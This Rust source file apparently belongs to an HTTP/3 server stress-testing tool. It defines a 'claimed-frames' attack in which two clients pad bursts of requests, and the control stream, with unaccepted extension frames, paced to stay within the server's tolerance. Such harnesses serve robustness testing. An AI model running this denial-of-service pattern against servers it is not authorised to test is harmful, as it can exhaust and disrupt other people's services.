//! Frames of an extension that the application does not take.

use crate::attack::{Plan, Victim};
use crate::http::{self, Method};

use super::Crowd;

/// The entry of the attack in the list.
pub(super) const PLAN: Plan = Plan {
    name: "claimed-frames",
    labels: &["A125"],
    summary: "frames that an extension claims on the control stream and before requests",
    victim: Victim::Server,
    make: || Box::new(claimed_frames()),
};

fn claimed_frames() -> Crowd {
    Crowd::of_clients(2, |connection, progress, _| {
        for id in progress.requests(connection, BURST) {
            let mut bytes = http::frame(http::CLAIMED_ON_REQUESTS, &[0x5a; PAYLOAD]);
            bytes.extend(http::request(Method::Get, "/"));
            connection.push_bytes(http::stream(id, 0, &bytes, true));
        }
        // As slow as the budget for frames without progress allows, for as long as it lasts.
        if progress.bursts.is_multiple_of(2) {
            let bytes = http::frame(http::CLAIMED_ON_CONTROL, &[0x5a; PAYLOAD]);
            progress.push_control(connection, &bytes);
        }
    })
}

/// Requests of one connection in one turn.
const BURST: u64 = 8;

/// Bytes of a payload.
const PAYLOAD: usize = 200;
